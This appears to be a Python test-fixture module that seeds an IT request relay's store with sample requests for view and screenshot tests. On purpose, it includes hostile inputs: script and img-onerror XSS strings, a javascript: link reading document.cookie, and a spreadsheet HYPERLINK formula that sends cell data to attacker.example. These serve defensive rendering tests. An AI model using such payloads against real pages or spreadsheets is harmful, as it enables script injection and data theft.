"""Requests as the relay stores them, for IT's view tests (unit, browser, screenshot).

Each request goes through the server's own ``RequestService.prepare`` (validation, redaction,
the ticket body exactly as sent) and is stored the way the relay files a forwarded request:
the first user's request carries the ticket and its requesters list; a further user's request
for the same open problem is its own row, parked in ``sent`` with ``meta.duplicate_of``, and
adds a requester and a "+1 from <user>: <justification>" comment to the shared request.
Hostile texts (HTML, a spreadsheet formula, a ``javascript:`` ticket link) are included on
purpose: the page must show them as text.
"""

from __future__ import annotations

import time
import uuid as uuidlib
from dataclasses import dataclass, field
from typing import Any

from jupyter_itbridge.findings import RequestDraft
from jupyter_itbridge.server.service import RequestService

DAY = 86400.0
XSS_SUMMARY = "<script>alert('pwned')</script> Please install <b>bold</b>"
XSS_BODY_LINE = '<img src=x onerror="alert(1)">'
FORMULA_SUMMARY = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for details")'
FORMULA_JUSTIFICATION = "-2+3 is what the spreadsheet should never compute"


@dataclass
class Seeded:
    """What was stored: request ids by a short name, for the tests' expectations."""

    ids: dict[str, int] = field(default_factory=dict)
    uuids: dict[str, str] = field(default_factory=dict)
    rows: int = 0


def _draft(summary: str, kind: str | None, subject: str | None, **extra: Any) -> RequestDraft:
    return RequestDraft(
        summary=summary,
        description=extra.pop("description", f"Found by jupyter-itbridge: {summary}"),
        justification=extra.pop("justification", ""),
        kind=kind,
        subject=subject,
        environment={"python": "3.11.2", "kernel": "python3", "os": "Debian GNU/Linux 12"},
        **extra,
    )


def forward(
    store: Any, user: str, draft: RequestDraft, *, days_ago: float
) -> tuple[dict[str, Any], bool]:
    """Store ``draft`` for ``user`` as the relay does; True when it joined an open request."""
    prepared = RequestService.prepare(draft, str(uuidlib.uuid4()))
    clean = prepared.draft
    target = store.find_open_by_fingerprint(clean.fingerprint) if clean.fingerprint else None
    row = store.insert_request(
        user=user,
        summary=clean.summary,
        body=prepared.body,
        draft=prepared.fields,
        backend="rt",
        kind=clean.kind,
        subject=clean.subject,
        fingerprint=clean.fingerprint,
        urgency=clean.urgency,
        notices=prepared.notices,
        request_uuid=prepared.uuid,
    )
    store.update_fields(row["uuid"], created_at=time.time() - days_ago * DAY)
    if target is None:
        store.add_requester(row["uuid"], user, clean.justification)
        return store.get_request(row["uuid"]), False
    store.add_requester(target["uuid"], user, clean.justification)
    note = clean.justification.strip() or "(no justification given)"
    store.add_comment(target["uuid"], user, "plus_one", f"+1 from {user}: {note}")
    store.transition(
        row["uuid"],
        "sent",
        note=f"joined request #{target['id']} (same problem, ticket open)",
        meta={"duplicate_of": target["uuid"]},
    )
    return store.get_request(row["uuid"]), True


def seed(store: Any) -> Seeded:
    """Nine requests from six users; see the module docstring."""
    out = Seeded()

    def add(name: str, user: str, draft: RequestDraft, days_ago: float) -> str:
        row, _joined = forward(store, user, draft, days_ago=days_ago)
        out.ids[name], out.uuids[name] = row["id"], row["uuid"]
        out.rows += 1
        return str(row["uuid"])

    sklearn = "scikit-learn is not installed in this environment."
    first = add(
        "sklearn_alice",
        "alice",
        _draft(sklearn, "missing_package", "scikit-learn", justification="Course on ML, week 3"),
        10,
    )
    for user, days, why in (
        ("bob", 8, "Churn model for the sales team"),
        ("carol", 3, ""),
        ("dave", 1, "Same here: <b>urgent</b> for the board report"),
    ):
        add(
            f"sklearn_{user}",
            user,
            _draft(sklearn, "missing_package", "scikit-learn", justification=why),
            days,
        )
    store.transition(
        first,
        "sent",
        note="delivered",
        ticket_id="RT-101",
        ticket_url="http://rt.example/Ticket/Display.html?id=101",
        attempts=1,
    )

    oracle = add(
        "oracle_bob",
        "bob",
        _draft("Oracle Instant Client is missing", "missing_driver", "oracle-client"),
        2,
    )
    store.transition(
        oracle,
        "failed",
        note="delivery failed",
        attempts=3,
        last_error="RTBackend.token was rejected by http://rt.example (HTTP 401).",
        next_attempt_at=time.time() + 1800,
    )

    memory = add(
        "memory_carol",
        "carol",
        _draft("Kernel stopped at its 4 GiB memory limit", "resource_limit", "memory"),
        20,
    )
    store.transition(memory, "sent", ticket_id="RT-99", ticket_url="http://rt.example/99")
    store.transition(memory, "resolved", note="RT says resolved")

    add(
        "formula_erin",
        "erin",
        _draft(FORMULA_SUMMARY, "blocked_package", "openai", justification=FORMULA_JUSTIFICATION),
        0.1,
    )

    xss = add(
        "xss_frank",
        "frank",
        _draft(XSS_SUMMARY, None, None, description=f"Details:\n{XSS_BODY_LINE}\nThanks"),
        4,
    )
    store.transition(xss, "sent", ticket_id="X-1", ticket_url="javascript:alert(document.cookie)")

    pyspark = add(
        "pyspark_alice",
        "alice",
        _draft("pyspark is not installed", "missing_package", "pyspark"),
        6,
    )
    store.transition(pyspark, "cancelled", note="cancelled by the user")
    return out
